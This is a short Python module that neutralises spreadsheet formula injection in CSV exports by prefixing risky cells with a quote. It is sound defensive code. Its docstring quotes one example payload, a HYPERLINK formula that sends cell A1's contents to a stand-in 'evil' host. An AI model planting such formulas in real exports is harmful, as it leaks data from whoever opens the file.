"""CSV cells a spreadsheet will not run: a value starting like a formula is written as text.

Excel, LibreOffice and Google Sheets evaluate a cell starting with ``=``, ``+``, ``-`` or ``@``
(and one starting with a tab or carriage return, which they strip first), so a study title
``=HYPERLINK("http://evil/?"&A1, "click")`` in a CSV export becomes a live link or worse. OWASP's
advice: prefix such a cell with a single quote, which spreadsheets show as text. Numbers keep
their sign (``-3``, ``+1.5e3`` are not formulas).
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[-+]?(?:\d+\.?\d*|\.\d+)(?:[eE][-+]?\d+)?")


def spreadsheet_safe(value: Any) -> Any:
    """``value`` prefixed with ``'`` when a spreadsheet would read it as a formula; anything else as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value
